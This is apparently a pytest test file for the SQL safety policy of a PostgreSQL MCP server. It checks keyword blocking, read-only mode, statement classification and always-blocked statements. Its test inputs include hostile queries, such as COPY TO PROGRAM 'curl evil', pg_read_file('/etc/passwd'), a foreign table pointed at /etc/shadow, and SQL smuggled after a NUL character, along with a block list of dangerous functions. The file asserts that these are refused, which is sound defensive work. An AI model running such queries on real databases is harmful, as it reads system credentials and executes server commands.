"""The query policy (SPEC §4): what it decides, with which message, in which order."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from pgmcp.config import Settings
from pgmcp.errors import DatabaseError, InvalidInput, LimitExceeded, QueryBlocked
from pgmcp.security import Decision, Policy, Risk

DEV = Policy()  # the handbook's defaults: development profile
READONLY = Policy(
    readonly_mode=True,
    allowed_operations=["SELECT", "WITH", "EXPLAIN"],
    blocked_keywords=["INSERT", "UPDATE", "DELETE", "DROP", "TRUNCATE", "ALTER", "CREATE"],
)
PRODUCTION = Policy(
    allowed_operations=["SELECT", "INSERT", "UPDATE", "DELETE"],
    blocked_keywords=["DROP", "TRUNCATE", "ALTER", "CREATE", "GRANT", "REVOKE", "COPY"],
    max_query_length=5000,
)
EVERYTHING = [
    "SELECT", "INSERT", "UPDATE", "DELETE", "MERGE", "WITH", "EXPLAIN", "SHOW", "CREATE", "ALTER", "DROP",
    "TRUNCATE", "GRANT", "REVOKE", "COPY", "COMMENT", "VACUUM", "ANALYZE", "LOCK", "CALL", "DO", "SET",
    "RESET", "BEGIN", "COMMIT", "ROLLBACK", "PREPARE", "EXECUTE", "DECLARE", "LISTEN", "NOTIFY", "LOAD", "REFRESH",
]  # fmt: skip
PERMISSIVE = Policy(allowed_operations=EVERYTHING, blocked_keywords=())


def blocked(policy: Policy, query: str, **kwargs: bool) -> QueryBlocked:
    with pytest.raises(QueryBlocked) as info:
        policy.check(query, **kwargs)  # type: ignore[arg-type]
    return info.value


# --- order of checks -------------------------------------------------------------


def test_length_is_checked_before_parsing() -> None:
    policy = Policy(max_query_length=20)
    with pytest.raises(LimitExceeded, match=r"Query too long: 25 characters \(MAX_QUERY_LENGTH is 20\)"):
        policy.check("this is not SQL at all!!!")
    assert policy.check("SELECT 1" + " " * 12).query_type == "SELECT"


def test_syntax_error_is_a_database_error_with_postgresql_message() -> None:
    with pytest.raises(DatabaseError) as info:
        DEV.check("SELEC 1")
    assert str(info.value) == 'syntax error at or near "SELEC"'
    assert info.value.sqlstate == "42601"
    assert info.value.error_type == "database_error"


def test_syntax_error_comes_before_multi_statement() -> None:
    with pytest.raises(DatabaseError):
        DEV.check("SELECT 1; DROP TABLE")


def test_stacked_statements_are_refused_before_anything_else() -> None:
    err = blocked(DEV, "SELECT 1; COMMIT; DROP TABLE t")
    assert str(err) == "Query blocked: only one statement per call is allowed (found 3)"
    assert err.reason == "multi_statement"
    assert err.error_type == "query_blocked"


@pytest.mark.parametrize("query", ["", "   ", ";", ";;", "-- nothing", "/* nothing */"])
def test_empty_query_is_refused(query: str) -> None:
    err = blocked(DEV, query)
    assert str(err) == "Query blocked: the query is empty"
    assert err.reason == "empty"


@pytest.mark.parametrize("query", ["SELECT 1;", "SELECT 1;;", "SELECT 1 ; ; ", "SELECT 1; -- done"])
def test_trailing_semicolons_are_one_statement(query: str) -> None:
    assert DEV.check(query).query_type == "SELECT"


def test_always_blocked_comes_before_blocked_keywords() -> None:
    err = blocked(PRODUCTION, "COPY t TO PROGRAM 'curl evil'")
    assert err.reason == "always_blocked"
    assert str(err) == "Query blocked: COPY to or from a server file or program is not allowed"


def test_drop_gets_the_dangerous_keyword_message_even_where_drop_is_not_allowed() -> None:
    err = blocked(PRODUCTION, "DROP TABLE users")
    assert str(err) == "Query blocked: contains dangerous keyword 'DROP'"
    assert err.reason == "blocked_keyword"


def test_blocked_keyword_comes_before_read_only_mode() -> None:
    err = blocked(READONLY, "INSERT INTO t VALUES (1)")
    assert str(err) == "Query blocked: contains dangerous keyword 'INSERT'"


def test_read_only_mode_comes_before_allowed_operations() -> None:
    policy = Policy(readonly_mode=True, allowed_operations=["SELECT"], blocked_keywords=())
    err = blocked(policy, "INSERT INTO t VALUES (1)")
    assert str(err) == "Query blocked: read-only mode allows only read statements (found INSERT)"
    assert err.reason == "readonly"


def test_read_only_mode_message_wins_over_the_tools_read_rule() -> None:
    policy = Policy(readonly_mode=True, blocked_keywords=())
    err = blocked(policy, "UPDATE t SET a = 1", require_read=True)
    assert err.reason == "readonly"


def test_tools_read_rule_comes_before_allowed_operations() -> None:
    policy = Policy(allowed_operations=["SELECT"], blocked_keywords=())
    assert blocked(policy, "DELETE FROM t", require_read=True).reason == "read_only_tool"
    assert blocked(policy, "DELETE FROM t").reason == "operation_not_allowed"


# --- BLOCKED_KEYWORDS: statement kinds and keyword tokens ---------------------------


def test_drop_inside_string_literal_passes() -> None:
    assert DEV.check("SELECT 'DROP TABLE users'").is_read


def test_drop_inside_dollar_quotes_and_escape_strings_passes() -> None:
    DEV.check("SELECT $$DROP TABLE t$$, $x$ ALTER $x$, E'\\' TRUNCATE'")


def test_drop_inside_comments_passes() -> None:
    DEV.check("SELECT 1 /* DROP /* nested ALTER */ TRUNCATE */ -- DROP")


def test_quoted_identifier_spelling_a_keyword_passes() -> None:
    assert DEV.check('SELECT "drop", "ALTER" FROM t').tables == frozenset({"t"})


def test_identifiers_containing_keywords_pass() -> None:
    READONLY.check("SELECT created_at, updated_at, deleted_at, drop_log, inserted FROM t")


def test_unquoted_column_named_like_a_keyword_is_the_keyword_token() -> None:
    # Documented: the scanner sees the keyword DROP; quoting the name avoids it.
    assert blocked(DEV, "SELECT drop FROM t").reason == "blocked_keyword"


def test_keyword_case_and_whitespace_do_not_matter() -> None:
    assert blocked(DEV, "\n  dRoP\tTABLE t").reason == "blocked_keyword"


def test_nested_statement_kind_is_a_blocked_keyword() -> None:
    policy = Policy(blocked_keywords=["DELETE"])
    err = blocked(policy, "EXPLAIN DELETE FROM t")
    assert str(err) == "Query blocked: contains dangerous keyword 'DELETE'"


def test_kind_without_its_keyword_is_still_blocked() -> None:
    # SELECT ... INTO creates a table without the word CREATE.
    err = blocked(Policy(blocked_keywords=["CREATE"]), "SELECT * INTO t2 FROM t")
    assert str(err) == "Query blocked: contains dangerous keyword 'CREATE'"


def test_blocked_word_that_is_no_keyword_matches_only_kinds_and_keyword_tokens() -> None:
    policy = Policy(blocked_keywords=["PG_SLEEP", "VACUUM"], allowed_operations=EVERYTHING)
    policy.check("SELECT pg_sleep(0)")
    assert blocked(policy, "VACUUM t").reason == "blocked_keyword"


def test_blocked_keywords_are_case_insensitive_and_trimmed() -> None:
    policy = Policy(blocked_keywords=[" drop ", ""])
    assert policy.blocked_keywords == ("DROP",)
    assert str(blocked(policy, "DROP TABLE t")) == "Query blocked: contains dangerous keyword 'DROP'"


# --- read-only mode and the read-only tool ----------------------------------------


def test_update_is_refused_in_readonly_mode() -> None:
    policy = Policy(readonly_mode=True)
    err = blocked(policy, "UPDATE t SET a = 1")
    assert str(err) == "Query blocked: read-only mode allows only read statements (found UPDATE)"


def test_readonly_argument_tightens_one_call() -> None:
    assert not DEV.check("INSERT INTO t VALUES (1)").is_read
    err = blocked(DEV, "INSERT INTO t VALUES (1)", readonly=True)
    assert err.reason == "readonly"


def test_readonly_argument_cannot_loosen_readonly_mode() -> None:
    policy = Policy(readonly_mode=True)
    assert blocked(policy, "INSERT INTO t VALUES (1)", readonly=False).reason == "readonly"


def test_execute_query_refuses_a_write_naming_execute_transaction() -> None:
    err = blocked(DEV, "INSERT INTO t VALUES (1)", require_read=True)
    assert str(err) == (
        "Query blocked: execute_query runs read-only statements; use execute_transaction for INSERT"
    )
    assert err.reason == "read_only_tool"


def test_read_tool_hint_names_the_tool_to_use() -> None:
    with pytest.raises(QueryBlocked, match="use batch_execute for DELETE"):
        DEV.check("DELETE FROM t", require_read=True, read_tool_hint="batch_execute")


@pytest.mark.parametrize(
    ("query", "label"),
    [
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "DELETE"),
        ("SELECT * INTO t2 FROM t", "SELECT INTO"),
        ("SELECT * FROM t FOR UPDATE", "SELECT ... FOR UPDATE"),
        ("SELECT * FROM t FOR KEY SHARE", "SELECT ... FOR KEY SHARE"),
        ("SELECT nextval('s')", "nextval()"),
        ("EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN ANALYZE DELETE"),
        ("MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE", "MERGE"),
    ],
)
def test_readonly_message_names_what_writes(query: str, label: str) -> None:
    err = blocked(PERMISSIVE, query, readonly=True)
    assert str(err) == f"Query blocked: read-only mode allows only read statements (found {label})"


# --- ALLOWED_OPERATIONS ---------------------------------------------------------------


def test_operation_not_allowed_message() -> None:
    policy = Policy(allowed_operations=["SELECT"], blocked_keywords=())
    err = blocked(policy, "INSERT INTO t VALUES (1)")
    assert str(err) == "Query blocked: operation 'INSERT' is not allowed"
    assert err.reason == "operation_not_allowed"


def test_with_is_an_operation_of_its_own() -> None:
    err = blocked(PRODUCTION, "WITH x AS (SELECT 1) SELECT * FROM x")
    assert str(err) == "Query blocked: operation 'WITH' is not allowed"


def test_data_modifying_cte_needs_its_dml_allowed() -> None:
    policy = Policy(allowed_operations=["SELECT", "WITH"], blocked_keywords=())
    err = blocked(policy, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")
    assert str(err) == "Query blocked: operation 'DELETE' is not allowed"


def test_explain_analyze_needs_its_target_allowed() -> None:
    policy = Policy(allowed_operations=["SELECT", "EXPLAIN"], blocked_keywords=())
    err = blocked(policy, "EXPLAIN ANALYZE INSERT INTO t VALUES (1)")
    assert str(err) == "Query blocked: operation 'INSERT' is not allowed"


def test_plain_explain_does_not_need_its_target_allowed() -> None:
    policy = Policy(allowed_operations=["SELECT", "EXPLAIN"], blocked_keywords=())
    decision = policy.check("EXPLAIN INSERT INTO t VALUES (1)")
    assert decision.kinds == frozenset({"EXPLAIN"})
    assert decision.is_read


def test_values_and_table_pass_the_default_profile_as_select() -> None:
    for query in ("VALUES (1), (2)", "TABLE t"):
        decision = DEV.check(query)
        assert (decision.query_type, decision.kinds, decision.is_read) == (
            "SELECT",
            frozenset({"SELECT"}),
            True,
        )


def test_show_is_a_read_but_needs_show_allowed() -> None:
    assert blocked(DEV, "SHOW search_path").reason == "operation_not_allowed"
    decision = Policy(allowed_operations=["SHOW"]).check("SHOW search_path")
    assert (decision.query_type, decision.is_read) == ("SHOW", True)


# --- classification --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "query_type", "kinds", "is_read"),
    [
        ("SELECT 1", "SELECT", {"SELECT"}, True),
        ("WITH x AS (SELECT 1) SELECT * FROM x", "WITH", {"WITH", "SELECT"}, True),
        ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "WITH", {"WITH", "SELECT", "DELETE"}, False),
        ("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", "WITH", {"WITH", "INSERT"}, False),
        ("INSERT INTO t SELECT * FROM u", "INSERT", {"INSERT"}, False),
        ("UPDATE t SET a = 1", "UPDATE", {"UPDATE"}, False),
        ("DELETE FROM t", "DELETE", {"DELETE"}, False),
        ("MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE", "MERGE", {"MERGE"}, False),
        ("SELECT * INTO t2 FROM t", "SELECT", {"SELECT", "CREATE"}, False),
        ("CREATE TABLE t2 AS SELECT * FROM t", "CREATE", {"CREATE"}, False),
        ("SELECT * FROM t FOR UPDATE", "SELECT", {"SELECT"}, False),
        ("EXPLAIN SELECT 1", "EXPLAIN", {"EXPLAIN"}, True),
        ("EXPLAIN DELETE FROM t", "EXPLAIN", {"EXPLAIN"}, True),
        ("EXPLAIN (ANALYZE false) DELETE FROM t", "EXPLAIN", {"EXPLAIN"}, True),
        ("EXPLAIN (ANALYZE off) DELETE FROM t", "EXPLAIN", {"EXPLAIN"}, True),
        ("EXPLAIN (ANALYZE 0) DELETE FROM t", "EXPLAIN", {"EXPLAIN"}, True),
        ("EXPLAIN ANALYZE SELECT 1", "EXPLAIN", {"EXPLAIN", "SELECT"}, True),
        ("EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN", {"EXPLAIN", "DELETE"}, False),
        ("EXPLAIN (ANALYZE false, ANALYZE) DELETE FROM t", "EXPLAIN", {"EXPLAIN", "DELETE"}, False),
        ("EXPLAIN (ANALYZE 'yes') DELETE FROM t", "EXPLAIN", {"EXPLAIN", "DELETE"}, False),  # PG refuses; we assume it runs
        ("EXPLAIN ANALYZE WITH x AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT 1", "EXPLAIN",
         {"EXPLAIN", "WITH", "SELECT", "INSERT"}, False),
        ("SHOW ALL", "SHOW", {"SHOW"}, True),
        ("VACUUM t", "VACUUM", {"VACUUM"}, False),
        ("ANALYZE t", "ANALYZE", {"ANALYZE"}, False),
        ("GRANT SELECT ON t TO public", "GRANT", {"GRANT"}, False),
        ("REVOKE SELECT ON t FROM public", "REVOKE", {"REVOKE"}, False),
        ("CREATE SCHEMA s CREATE TABLE a (x int)", "CREATE", {"CREATE"}, False),
        ("CREATE VIEW v AS SELECT 1", "CREATE", {"CREATE"}, False),
        ("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u", "CREATE", {"CREATE"}, False),
        ("DROP TABLE t", "DROP", {"DROP"}, False),
        ("ALTER TABLE t ADD COLUMN c int", "ALTER", {"ALTER"}, False),
        ("TRUNCATE t", "TRUNCATE", {"TRUNCATE"}, False),
        ("LOCK TABLE t", "LOCK", {"LOCK"}, False),
        ("REFRESH MATERIALIZED VIEW mv", "REFRESH", {"REFRESH"}, False),
        ("SET CONSTRAINTS ALL DEFERRED", "SET", {"SET"}, False),
    ],
)  # fmt: skip
def test_classification(query: str, query_type: str, kinds: set[str], is_read: bool) -> None:
    decision = PERMISSIVE.check(query)
    assert decision.query_type == query_type
    assert decision.kinds == frozenset(kinds)
    assert decision.is_read is is_read


def test_explain_analyze_of_a_write_is_flagged_for_the_explain_tool() -> None:
    assert DEV.check("EXPLAIN ANALYZE UPDATE t SET a = 1").analyze_target_is_write
    assert not DEV.check("EXPLAIN ANALYZE SELECT 1").analyze_target_is_write
    assert not DEV.check("EXPLAIN UPDATE t SET a = 1").analyze_target_is_write
    assert not DEV.check("UPDATE t SET a = 1").analyze_target_is_write


def test_tables_are_lower_case_last_name_parts() -> None:
    decision = DEV.check('SELECT * FROM public.Orders o JOIN "Customers" c ON true JOIN s.t USING (id)')
    assert decision.tables == frozenset({"orders", "customers", "t"})
    assert DEV.check("INSERT INTO audit SELECT * FROM events").tables == frozenset({"audit", "events"})


# --- always blocked -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "label"),
    [
        ("BEGIN", "BEGIN"),
        ("START TRANSACTION", "START"),
        ("COMMIT", "COMMIT"),
        ("END", "COMMIT"),
        ("ROLLBACK", "ROLLBACK"),
        ("SAVEPOINT s", "SAVEPOINT"),
        ("RELEASE SAVEPOINT s", "RELEASE"),
        ("PREPARE TRANSACTION 'x'", "PREPARE"),
    ],
)
def test_transaction_control_is_always_blocked(query: str, label: str) -> None:
    err = blocked(PERMISSIVE, query)
    assert err.reason == "always_blocked"
    assert str(err).startswith(f"Query blocked: transaction control ({label}) is not allowed")


@pytest.mark.parametrize(
    ("query", "start"),
    [
        ("DO $$ BEGIN END $$", "Query blocked: DO is not allowed"),
        ("CALL p()", "Query blocked: CALL is not allowed"),
        ("SET statement_timeout = 0", "Query blocked: SET is not allowed"),
        ("SET LOCAL statement_timeout = 0", "Query blocked: SET is not allowed"),
        ("SET TRANSACTION READ WRITE", "Query blocked: SET is not allowed"),
        ("RESET ALL", "Query blocked: RESET is not allowed"),
        ("PREPARE p AS SELECT 1", "Query blocked: PREPARE is not allowed"),
        ("EXECUTE p", "Query blocked: EXECUTE is not allowed"),
        ("EXPLAIN EXECUTE p", "Query blocked: EXECUTE is not allowed"),
        ("DEALLOCATE p", "Query blocked: DEALLOCATE is not allowed"),
        ("DECLARE c CURSOR WITH HOLD FOR SELECT 1", "Query blocked: DECLARE is not allowed"),
        ("FETCH 1 FROM c", "Query blocked: FETCH is not allowed"),
        ("MOVE 1 IN c", "Query blocked: MOVE is not allowed"),
        ("CLOSE c", "Query blocked: CLOSE is not allowed"),
        ("LISTEN ch", "Query blocked: LISTEN is not allowed"),
        ("UNLISTEN *", "Query blocked: UNLISTEN is not allowed"),
        ("NOTIFY ch", "Query blocked: NOTIFY is not allowed"),
        ("LOAD 'x'", "Query blocked: LOAD is not allowed"),
        ("DISCARD ALL", "Query blocked: DISCARD is not allowed"),
        ("CHECKPOINT", "Query blocked: CHECKPOINT is not allowed"),
        ("ALTER SYSTEM SET work_mem = '1GB'", "Query blocked: ALTER SYSTEM is not allowed"),
        ("CREATE EXTENSION dblink", "Query blocked: CREATE EXTENSION is not allowed"),
        ("CREATE LANGUAGE plperlu", "Query blocked: CREATE EXTENSION is not allowed"),  # as PostgreSQL reads it
        ("CREATE LANGUAGE pl HANDLER h", "Query blocked: CREATE LANGUAGE is not allowed"),
        ("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", "Query blocked: CREATE SUBSCRIPTION is not allowed"),
        ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "Query blocked: CREATE SERVER is not allowed"),
        ("CREATE FOREIGN TABLE f (a text) SERVER s OPTIONS (filename '/etc/passwd')",
         "Query blocked: CREATE FOREIGN TABLE is not allowed"),
        ("ALTER FOREIGN TABLE f OPTIONS (SET filename '/etc/shadow')", "Query blocked: ALTER FOREIGN TABLE is not allowed"),
        ("CREATE TABLESPACE ts LOCATION '/tmp'", "Query blocked: CREATE TABLESPACE is not allowed"),
        ("CREATE TABLE z AS EXECUTE p", "Query blocked: EXECUTE is not allowed"),
        ("COPY t TO PROGRAM 'id'", "Query blocked: COPY to or from a server file or program"),
        ("COPY t FROM '/etc/passwd'", "Query blocked: COPY to or from a server file or program"),
        ("COPY (SELECT 1) TO '/tmp/x'", "Query blocked: COPY to or from a server file or program"),
        ("COPY (SELECT 1) TO STDOUT", "Query blocked: COPY is not allowed (its data cannot travel"),
        ("COPY t FROM STDIN", "Query blocked: COPY is not allowed (its data cannot travel"),
        ("UPDATE pg_settings SET setting = '0'", "Query blocked: writing to pg_settings is not allowed"),
        ("CREATE RULE r AS ON INSERT TO t DO ALSO UPDATE pg_catalog.pg_settings SET setting = '0'",
         "Query blocked: writing to pg_settings is not allowed"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'", "Query blocked: functions in language 'c'"),
        ("CREATE PROCEDURE p() LANGUAGE plpython3u AS 'pass'", "Query blocked: functions in language 'plpython3u'"),
    ],
)  # fmt: skip
def test_always_blocked_statements(query: str, start: str) -> None:
    err = blocked(PERMISSIVE, query)
    assert err.reason == "always_blocked"
    assert str(err).startswith(start)


def test_set_inside_a_definition_is_not_a_session_set() -> None:
    PERMISSIVE.check("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = public AS 'SELECT 1'")
    PERMISSIVE.check("ALTER ROLE r SET statement_timeout = 0")


def test_trusted_languages_are_only_classified() -> None:
    decision = PERMISSIVE.check(
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$"
    )
    assert decision.kinds == frozenset({"CREATE"})


@pytest.mark.parametrize(
    "query",
    [
        "CREATE TEMP TABLE t (a int)",
        "CREATE TEMPORARY TABLE t AS SELECT 1",
        "SELECT 1 AS a INTO TEMP t",
        "CREATE TEMP VIEW v AS SELECT 1",
        "CREATE TEMP SEQUENCE s",
        "CREATE TABLE pg_temp.t (a int)",
    ],
)
def test_lasting_temporary_objects_are_always_blocked(query: str) -> None:
    err = blocked(PERMISSIVE, query)
    assert err.reason == "always_blocked"
    assert "temporary tables" in str(err)


def test_temporary_table_dropped_at_commit_is_only_classified() -> None:
    assert PERMISSIVE.check("CREATE TEMP TABLE t (a int) ON COMMIT DROP").kinds == frozenset({"CREATE"})


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
        ("SELECT pg_catalog.pg_read_binary_file('x')", "pg_read_binary_file"),
        ('SELECT "pg_ls_dir"(\'.\')', "pg_ls_dir"),
        ("SELECT PG_LS_LOGDIR()", "pg_ls_logdir"),
        ("SELECT * FROM pg_ls_tmpdir()", "pg_ls_tmpdir"),
        ("SELECT pg_stat_file('x')", "pg_stat_file"),
        ("SELECT * FROM t WHERE EXISTS (SELECT lo_import('/etc/passwd'))", "lo_import"),
        ("SELECT lo_export(1, '/tmp/x')", "lo_export"),
        ("SELECT lo_unlink(1)", "lo_unlink"),
        ("SELECT * FROM dblink('x', 'SELECT 1') AS r(a int)", "dblink"),
        ("SELECT dblink_connect('x')", "dblink_connect"),
        ("SELECT pg_terminate_backend(1)", "pg_terminate_backend"),
        ("SELECT pg_cancel_backend(1)", "pg_cancel_backend"),
        ("SELECT pg_reload_conf()", "pg_reload_conf"),
        ("SELECT pg_rotate_logfile()", "pg_rotate_logfile"),
        ("SELECT pg_stat_reset_shared('bgwriter')", "pg_stat_reset_shared"),
        ("SELECT pg_stat_statements_reset()", "pg_stat_statements_reset"),
        ("SELECT pg_switch_wal()", "pg_switch_wal"),
        ("SELECT pg_create_restore_point('x')", "pg_create_restore_point"),
        ("SELECT pg_drop_replication_slot('s')", "pg_drop_replication_slot"),
        ("SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", "pg_logical_slot_get_changes"),
        ("SELECT pg_replication_origin_create('o')", "pg_replication_origin_create"),
        ("SELECT pg_advisory_lock(1)", "pg_advisory_lock"),
        ("SELECT pg_advisory_xact_lock(1)", "pg_advisory_xact_lock"),
        ("SELECT pg_try_advisory_lock_shared(1)", "pg_try_advisory_lock_shared"),
        ("SELECT set_config('statement_timeout', '0', false)", "set_config"),
        ("SELECT pg_logical_emit_message(true, 'x', 'y')", "pg_logical_emit_message"),
        ("SELECT pg_promote()", "pg_promote"),
        ("SELECT pg_backup_start('x')", "pg_backup_start"),
        ("SELECT pg_import_system_collations('pg_catalog')", "pg_import_system_collations"),
        ("SELECT pg_notify('c', 'm')", "pg_notify"),
        ("SELECT query_to_xml('SELECT 1', true, false, '')", "query_to_xml"),
        ("SELECT cursor_to_xml('c', 1, true, false, '')", "cursor_to_xml"),
        ("SELECT ts_stat('SELECT v FROM docs')", "ts_stat"),
        ("SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')", "ts_rewrite"),
        ("SELECT pg_file_write('x', 'y', false)", "pg_file_write"),
        ("SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_waldir()) x", "pg_ls_waldir"),
        ("SELECT * FROM t CROSS JOIN LATERAL pg_ls_dir(t.path) d", "pg_ls_dir"),
        ("SELECT pg_read_file('x') OPERATOR(pg_catalog.||) 'y'", "pg_read_file"),
        ("EXPLAIN SELECT pg_read_file('x')", "pg_read_file"),
        ("CREATE TABLE z (a text DEFAULT pg_read_file('x'))", "pg_read_file"),
        ("CREATE INDEX ON t ((pg_read_file(path)))", "pg_read_file"),
        ("CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT pg_read_file(''x'')'", "pg_read_file"),
        ("CREATE FUNCTION f() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('x'); END", "pg_read_file"),
        ("CREATE AGGREGATE a(bigint) (SFUNC = pg_catalog.pg_read_file, STYPE = text)", "pg_read_file"),
        ("CREATE OPERATOR ### (FUNCTION = pg_read_file, LEFTARG = text, RIGHTARG = bigint)", "pg_read_file"),
        ("CREATE CAST (int AS text) WITH FUNCTION pg_read_file(text)", "pg_read_file"),
        ("GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_file(text) TO public", "pg_read_file"),
        ("CREATE OPERATOR CLASS c FOR TYPE text USING btree AS FUNCTION 1 pg_read_file(text)", "pg_read_file"),
        ("SELECT x::varchar(10) FROM t WHERE (pg_read_file('x'))::text IS NULL", "pg_read_file"),
    ],
)  # fmt: skip
def test_blocked_functions_wherever_they_appear(query: str, name: str) -> None:
    err = blocked(PERMISSIVE, query)
    sql_text = name in ("query_to_xml", "cursor_to_xml", "ts_stat", "ts_rewrite")
    why = " (it runs SQL text that the policy cannot check)" if sql_text else ""
    assert str(err) == f"Query blocked: function '{name}' is not allowed{why}"
    assert err.reason == "always_blocked"


def test_first_blocked_function_in_the_text_is_named() -> None:
    err = blocked(DEV, "SELECT pg_ls_dir('.'), pg_read_file('x'), pg_stat_file('y')")
    assert str(err) == "Query blocked: function 'pg_ls_dir' is not allowed"


@pytest.mark.parametrize(
    "query",
    [
        "SELECT pg_sleep(0)",
        "SELECT txid_current(), pg_current_xact_id()",
        "SELECT lo_get(1)",
        "SELECT current_setting('statement_timeout')",
        "SELECT pg_get_replication_slots()",
        "SELECT pg_stat_get_replication_slot('s')",
        "SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)",
        "SELECT table_to_xml('t', true, false, '')",
        "SELECT my_schema.pg_read_files_count()",
        "SELECT generate_series(1, 3), jsonb_array_elements('[1]')",
    ],
)
def test_harmless_functions_pass(query: str) -> None:
    assert DEV.check(query).is_read


def test_always_blocked_whatever_the_lists_say() -> None:
    assert blocked(PERMISSIVE, "SELECT pg_read_file('x')").reason == "always_blocked"
    assert blocked(PERMISSIVE, "BEGIN").reason == "always_blocked"


# --- text that is not what it seems ---------------------------------------------------


def test_nul_character_is_invalid_input() -> None:
    # libpg_query reads a C string: it would see only "SELECT 1".
    with pytest.raises(InvalidInput, match="NUL"):
        DEV.check("SELECT 1\x00; DROP TABLE t")


def test_lone_surrogate_is_invalid_input() -> None:
    with pytest.raises(InvalidInput):
        DEV.check("SELECT '\ud800'")


def test_unicode_text_is_fine() -> None:
    assert DEV.check("SELECT '😀 ünïcödé', 'DROP' AS \"列\" FROM t").is_read


def test_too_deeply_nested_statement_is_refused_not_crashed() -> None:
    policy = Policy(max_query_length=100_000)
    err = blocked(policy, "SELECT " + " || ".join(["'a'"] * 3000))
    assert err.reason == "too_complex"


def test_long_flat_lists_are_fine() -> None:
    policy = Policy(max_query_length=100_000)
    values = ", ".join(str(i) for i in range(5000))
    assert policy.check(f"SELECT * FROM t WHERE id IN ({values})").is_read


# --- sensitive tables, SELECT * without LIMIT, custom rules ----------------------------------


def test_sensitive_table_access_warns_by_default() -> None:
    policy = Policy(sensitive_tables=["users", "public.Payments"])
    decision = policy.check("SELECT * FROM payments p JOIN public.users u ON u.id = p.user_id")
    assert decision.warnings == ("Access to sensitive table: payments", "Access to sensitive table: users")
    assert policy.check("SELECT * FROM orders").warnings == ()


def test_sensitive_table_access_can_block() -> None:
    policy = Policy(sensitive_tables=["users"], sensitive_tables_action="block")
    err = blocked(policy, "SELECT email FROM Users")
    assert str(err) == "Query blocked: access to sensitive table 'users'"
    assert err.reason == "sensitive_table"
    assert policy.check("SELECT 'users'").warnings == ()


def test_sensitive_tables_action_is_validated() -> None:
    with pytest.raises(ValueError, match="sensitive_tables_action"):
        Policy(sensitive_tables_action="ignore")


@pytest.mark.parametrize(
    ("query", "refused"),
    [
        ("SELECT * FROM orders", True),
        ("SELECT o.* FROM orders o", True),
        ("TABLE orders", True),
        ("SELECT * FROM orders LIMIT ALL", True),
        ("SELECT * FROM a UNION SELECT * FROM b", True),
        ("SELECT * FROM orders LIMIT 10", False),
        ("SELECT * FROM orders FETCH FIRST 5 ROWS ONLY", False),
        ("SELECT * FROM a UNION SELECT * FROM b LIMIT 3", False),
        ("SELECT count(*) FROM orders", False),
        ("SELECT id FROM orders", False),
        ("SELECT * FROM (SELECT * FROM orders) s LIMIT 5", False),
    ],
)
def test_select_star_without_limit(query: str, refused: bool) -> None:
    policy = Policy(require_limit_for_select_star=True)
    if refused:
        assert blocked(policy, query).reason == "select_star_without_limit"
    else:
        policy.check(query)
    Policy().check(query)  # off by default


def test_custom_rule_warns_and_blocks() -> None:
    def no_payments_without_where(query: str, decision: Decision) -> Iterator[Risk]:
        if "payments" in decision.tables and decision.query_type == "DELETE":
            yield Risk("Query blocked: deleting payments is not allowed", block=True)
        if decision.query_type == "SELECT":
            yield Risk("Reads are audited")

    policy = Policy()
    policy.add_rule(no_payments_without_where)
    assert policy.check("SELECT 1").warnings == ("Reads are audited",)
    err = blocked(policy, "DELETE FROM payments")
    assert str(err) == "Query blocked: deleting payments is not allowed"
    assert err.reason == "custom_rule"
    assert policy.check("DELETE FROM orders").warnings == ()


def test_custom_rules_run_last() -> None:
    seen: list[str] = []

    def record(query: str, decision: Decision) -> list[Risk]:
        seen.append(query)
        return []

    policy = Policy()
    policy.add_rule(record)
    blocked(policy, "DROP TABLE t")
    blocked(policy, "SELECT pg_read_file('x')")
    assert seen == []
    policy.check("SELECT 1")
    assert seen == ["SELECT 1"]


def test_custom_rule_may_return_plain_strings_like_the_handbook() -> None:
    policy = Policy(sensitive_tables=["users"])
    policy.add_rule(lambda query, decision: ["Potential large dataset query without LIMIT"])
    assert policy.check("SELECT * FROM users").warnings == (
        "Access to sensitive table: users",
        "Potential large dataset query without LIMIT",
    )


def test_failing_custom_rule_blocks_the_query() -> None:
    def broken(query: str, decision: Decision) -> list[Risk]:
        raise KeyError("oops")

    policy = Policy()
    policy.add_rule(broken)
    err = blocked(policy, "SELECT 1")
    assert str(err) == "Query blocked: custom rule broken failed (KeyError)"
    assert err.reason == "custom_rule"


def test_adding_a_rule_forgets_cached_decisions() -> None:
    policy = Policy()
    assert policy.check("SELECT 1").warnings == ()
    policy.add_rule(lambda query, decision: [Risk("seen")])
    assert policy.check("SELECT 1").warnings == ("seen",)


# --- settings and cache -------------------------------------------------------------------------


def test_from_settings_uses_the_handbook_variables() -> None:
    settings = Settings(
        readonly_mode=True,
        allowed_operations="select,with",
        blocked_keywords="drop,create",
        max_query_length=50,
        sensitive_tables="users",
        sensitive_tables_action="block",
        require_limit_for_select_star=True,
    )
    policy = Policy.from_settings(settings)
    assert policy.readonly_mode
    assert policy.allowed_operations == frozenset({"SELECT", "WITH"})
